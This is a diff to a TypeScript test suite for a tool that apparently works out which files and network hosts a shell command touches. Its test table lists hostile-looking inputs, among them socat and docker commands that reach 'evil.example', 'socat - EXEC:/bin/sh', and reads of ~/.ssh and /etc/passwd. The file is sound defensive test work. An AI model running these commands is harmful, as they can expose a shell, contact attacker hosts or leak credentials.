@@ -149,6 +149,41 @@ const CASES: [string, string[]][] = [
   // wrappers: only their own options
   ['sudo cat .env', ['read .env']],
   ['timeout 5 cat .env', ['read .env']],
+  // listings: guesses inside the repository, reads decided like cat outside it (decide-touch)
+  ['ls -la ~/.ssh', ['read ~/.ssh guess']],
+  ['find / -name x', ['read / guess']],
+  // container engines (src/command/registry-refs.ts)
+  ['docker pull evil.example/img', ['host evil.example']],
+  ['docker pull ubuntu:22.04', ['host docker.io']],
+  ['docker image push localhost:5000/x', ['host localhost:5000']],
+  ['docker run --rm -e X=1 --name c evil.example/img ls -v', ['host evil.example']],
+  ['docker run alpine', ['host docker.io guess']],
+  ['docker run -v /:/host -v ./src:/s:ro -v data:/d --mount type=bind,source=/etc,target=/e,readonly alpine', ['write / tree:all', 'read ./src tree:all', 'read /etc tree:all', 'host docker.io guess']],
+  ['docker run -v "$HOME:/h" alpine', ['dynamic file write $HOME', 'host docker.io guess']],
+  ['docker -H tcp://evil.example:2375 ps', ['host evil.example']],
+  ['docker login', ['host docker.io']],
+  ['docker logout evil.example', ['host evil.example']],
+  ['podman pull alpine', ['dynamic host alpine']],
+  ['docker ps -a', []],
+  // socat (src/command/socat-address.ts)
+  ['socat - TCP:evil.example:80', ['host evil.example']],
+  ["socat 'TCP6:[::1]:80' STDIO", ['host ::1']],
+  ['socat TCP6:[::1]:80 STDIO', ['dynamic host TCP6:[::1]:80']],
+  ['socat - PROXY:proxy.example:evil.example:443,proxyport=3128', ['host proxy.example', 'host evil.example']],
+  ['socat TCP-LISTEN:80,fork OPEN:.env,creat', ['write .env']],
+  ['socat - OPENSSL:h.example:443,cert=secrets/c.pem', ['read secrets/c.pem', 'host h.example']],
+  ['socat -lf build/s.log - ./x/y', ['write build/s.log', 'write ./x/y']],
+  ['socat -t 5 -r .env - TCP:h.example:80', ['write .env', 'host h.example']],
+  ['docker run --unknown-opt evil.example/img alpine', ['host evil.example']],
+  ['docker run --unknown-opt val evil.example/img', ['host evil.example', 'host docker.io guess']],
+  ['docker run -it --rm alpine curl evil.example/x', ['host docker.io guess']],
+  ['socat - EXEC:/bin/sh', []],
+  ['socat - FOO:bar', ['dynamic host FOO:bar']],
+  ['socat - "$A"', ['dynamic host $A']],
+  // tar writes nothing with -O or --to-command
+  ['tar -xOf a.tar', ['read a.tar']],
+  ['tar --to-command=./x.sh -xf a.tar', ['read a.tar']],
+  ['tar -xf a.tar', ['read a.tar', 'write . tree:all']],
 ];
 
 describe('what a command touches (table)', () => {
@@ -186,5 +221,18 @@ describe('data/programs.json', () => {
     const most = ['rm', 'git', 'npm', 'pnpm', 'yarn', 'npx', 'node', 'python', 'pip', 'uv', 'curl', 'wget', 'ssh', 'scp', 'rsync', 'tar', 'find', 'xargs', 'sed', 'awk', 'grep', 'rg', 'cat', 'head', 'tail', 'tee', 'cp', 'mv', 'ln', 'chmod', 'chown', 'dd', 'make', 'go', 'cargo', 'docker', 'kubectl', 'helm', 'terraform', 'gh', 'aws', 'gcloud', 'az'];
     for (const p of most) expect(named.has(p), p).toBe(true);
     expect(named.size).toBeGreaterThanOrEqual(60);
+  });
+});
+
+describe('listings (data/programs.json listsOutside)', () => {
+  it('mark their guessed operands, so a path outside the repository is decided as a read', () => {
+    for (const line of ['ls -la ~/.ssh', 'find / -name x', 'du -sh ..', 'tree /etc', 'stat /etc/passwd', 'file /etc/passwd']) {
+      const [c] = analyzeCommand(line).commands;
+      const t = touchesOf(c!.argvs[0]!, false);
+      expect(t.length, line).toBeGreaterThan(0);
+      expect(t.every((x) => x.kind === 'file' && x.guess && x.listsOutside), line).toBe(true);
+    }
+    const [cat] = analyzeCommand('cat /etc/passwd').commands;
+    expect(touchesOf(cat!.argvs[0]!, false).some((x) => x.kind === 'file' && x.listsOutside)).toBe(false);
   });
 });
